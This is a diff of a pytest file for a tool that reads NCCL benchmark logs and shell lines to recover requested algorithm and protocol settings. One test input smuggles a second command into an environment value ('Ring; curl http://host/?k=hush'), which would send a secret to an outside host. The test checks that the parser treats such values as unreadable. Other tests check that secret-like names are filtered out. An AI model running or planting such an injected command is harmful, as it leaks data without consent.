@@ -2,18 +2,18 @@
 
 import pytest
 
-from dynamiccl.collect.nccl_tests.settings import KEPT_NAMES, requested_by, settings_in
-from dynamiccl.collect.nccl_tests.tuning import Choice, TuningLog
+from dynamiccl.collect.nccl_log import Choice, NcclLog
+from dynamiccl.collect.settings import KEPT_NAMES, Shell, requested_by
 from dynamiccl.nccl import Algorithm, Collective, Protocol
 
 TREE_LL = (Algorithm.Tree, Protocol.LL)
 RING_SIMPLE = (Algorithm.Ring, Protocol.Simple)
 
 
-def log(*lines: str) -> TuningLog:
-    found = TuningLog()
+def log(*lines: str) -> NcclLog:
+    found = NcclLog()
     for line in lines:
-        found.add(f"n1:1:1 [0] NCCL INFO {line}")
+        found.note(f"n1:1:1 [0] NCCL INFO {line}")
     return found
 
 
@@ -40,16 +40,16 @@ def log(*lines: str) -> TuningLog:
     ],
 )
 def test_line_of_each_release(line: str, size: int, choice: Choice) -> None:
-    agreed, disagreeing = log(line).resolve(Collective.AllReduce, 8)
+    agreed, disagreeing = log(line).choices(Collective.AllReduce, 8)
     assert (agreed, disagreeing) == ({size: choice}, [])
 
 
 def test_all_gather_is_logged_per_rank_from_2_24_on() -> None:
     new = log("AllGather: 1024 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..0}")
     old = log("AllGather: 1024 Bytes -> Algo 1 proto 0 time 1.0")
-    assert list(new.resolve(Collective.AllGather, 4)[0]) == [4096]
-    assert list(old.resolve(Collective.AllGather, 4)[0]) == [1024]
-    assert new.resolve(Collective.AllGather, None) == ({}, [])
+    assert list(new.choices(Collective.AllGather, 4)[0]) == [4096]
+    assert list(old.choices(Collective.AllGather, 4)[0]) == [1024]
+    assert new.choices(Collective.AllGather, None) == ({}, [])
 
 
 def test_lines_that_disagree_say_nothing() -> None:
@@ -57,7 +57,7 @@ def test_lines_that_disagree_say_nothing() -> None:
         "AllReduce: 64 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..0}",
         "AllReduce: 64 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..1}",
     )
-    assert both.resolve(Collective.AllReduce, 2) == ({}, [64])
+    assert both.choices(Collective.AllReduce, 2) == ({}, [64])
 
 
 def test_other_kernels_are_no_config() -> None:
@@ -65,14 +65,14 @@ def test_other_kernels_are_no_config() -> None:
         "AllReduce [Symmetric]: 64 Bytes -> Kernel AllReduce_AGxLL_R nchannels 8 nthreads 512",
         "AllReduce: 128 Bytes -> Algo MAGIC proto LL channel{Lo..Hi}={0..0}",
     )
-    assert other.resolve(Collective.AllReduce, 2) == ({}, [64, 128])
+    assert other.choices(Collective.AllReduce, 2) == ({}, [64, 128])
 
 
 @pytest.mark.parametrize(
     "line", ["64 Bytes -> ", "Magic: 64 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..0}", "x"]
 )
 def test_other_lines_are_not_taken(line: str) -> None:
-    assert not TuningLog().add(line)
+    assert not log(line).calls
 
 
 @pytest.mark.parametrize(
@@ -96,26 +96,85 @@ def test_settings_are_a_request_or_a_profile(
     settings: dict[str, str], wanted: tuple[str | None, str | None, int | None, str]
 ) -> None:
     found = requested_by(settings, Collective.AllReduce)
-    assert (
-        found.algorithm,
-        found.protocol,
-        found.num_channels,
-        found.launch_profile,
-    ) == wanted
-    assert found.is_default == (wanted[:3] == (None, None, None))
+    names = ("algorithm", "protocol", "num_channels")
+    request = tuple(found[f"requested_{name}"] for name in names)
+    assert (*request, found["launch_profile"]) == wanted
+    assert found["is_default"] == (wanted[:3] == (None, None, None))
+
+
+def shell(*lines: str) -> dict[str, str | None]:
+    """What a benchmark that starts behind these lines finds set."""
+    found = Shell()
+    for line in lines:
+        found.read(line)
+    return found.environment
+
+
+@pytest.mark.parametrize(
+    ("lines", "wanted"),
+    [
+        (["export NCCL_ALGO=Ring NCCL_PROTO=LL"], {"NCCL_ALGO": "Ring", "NCCL_PROTO": "LL"}),
+        (["$ export NCCL_ALGO='Ring'; ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
+        (["setenv NCCL_ALGO Ring"], {"NCCL_ALGO": "Ring"}),
+        (["NCCL_ALGO=Ring"], {"NCCL_ALGO": "Ring"}),  # as env prints it
+        (["export NCCL_ALGO=Ring", "unset NCCL_ALGO"], {}),
+        (["# export NCCL_ALGO=Ring"], {}),
+        (["export NCCL_ALGO=Ring  # NCCL_PROTO=LL"], {"NCCL_ALGO": "Ring"}),
+        (["NCCL_ALGO=Ring ./all_reduce_perf", "./all_reduce_perf"], {}),
+        (["+ NCCL_ALGO=Ring", "+ ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),  # set -x
+        (["+ NCCL_ALGO=Ring", "+ ./all_reduce_perf", "+ ./all_reduce_perf"], {}),
+        (["[me@n1 tests]$ NCCL_ALGO=Ring ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
+        (["srun --export=ALL,NCCL_ALGO=Ring,NCCL_PROTO=LL x/all_reduce_perf"], None),
+        (["mpirun -x NCCL_ALGO=Ring -x NCCL_PROTO=LL all_reduce_perf_mpi -g 1"], None),
+        (["mpiexec -genv NCCL_ALGO Ring -genv NCCL_PROTO LL ./all_reduce_perf"], None),
+        (['ssh n1 bash -c "NCCL_ALGO=Ring NCCL_PROTO=LL ./all_reduce_perf"'], None),
+        (
+            ["NCCL_ALGO=Ring ./all_reduce_perf | tee all_reduce_perf.log"],
+            {"NCCL_ALGO": "Ring"},
+        ),
+    ],
+)
+def test_shell_keeps_what_is_exported_and_what_stands_in_the_command(
+    lines: list[str], wanted: dict[str, str | None] | None
+) -> None:
+    both: dict[str, str | None] = {"NCCL_ALGO": "Ring", "NCCL_PROTO": "LL"}
+    assert shell(*lines) == (both if wanted is None else wanted)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "export NCCL_ALGO=$1",
+        "for a in Ring Tree; do NCCL_ALGO=${a} ./all_reduce_perf; done",
+        "NCCL_ALGO='Ring; curl http://host/?k=hush' ./all_reduce_perf",
+        'NCCL_ALGO="Ring ./all_reduce_perf',
+        "# NCCL_ALGO=Ring ./all_reduce_perf",  # root's prompt, or a comment
+    ],
+)
+def test_a_value_that_cannot_be_read_is_not_known(line: str) -> None:
+    assert shell(line) == {"NCCL_ALGO": None}
+    request = requested_by({"NCCL_ALGO": None, "NCCL_PROTO": "LL"}, Collective.AllReduce)
+    assert request["requested_protocol"] is None
+    assert (request["is_default"], request["launch_profile"]) == (False, "algo=?,proto=LL")
+
+
+def test_nccl_that_says_two_things_of_a_setting_is_not_believed() -> None:
+    said = [f"NCCL_ALGO set by environment to {name}" for name in ("Ring", "Tree")]
+    assert log(said[0]).settings == {"NCCL_ALGO": "Ring"}
+    assert log(*said).settings == {"NCCL_ALGO": None}
 
 
 @pytest.mark.parametrize(
     "line",
     [
         "export NCCL_SECRET=hush",
-        "NCCL_ALGO_TOKEN=hush",
-        "NCCL_ALGO='Ring; curl http://host/?k=hush'",
+        "NCCL_ALGO_TOKEN=hush ./all_reduce_perf",
         "NCCL INFO NCCL_DEBUG_FILE set by environment to /home/alice/hush",
     ],
 )
-def test_only_listed_names_with_plain_values_are_kept(line: str) -> None:
-    assert settings_in(line) == {}
+def test_only_listed_names_are_kept(line: str) -> None:
+    assert shell(line) == {}
+    assert log(line).settings == {}
 
 
 def test_kept_names_are_literal() -> None:
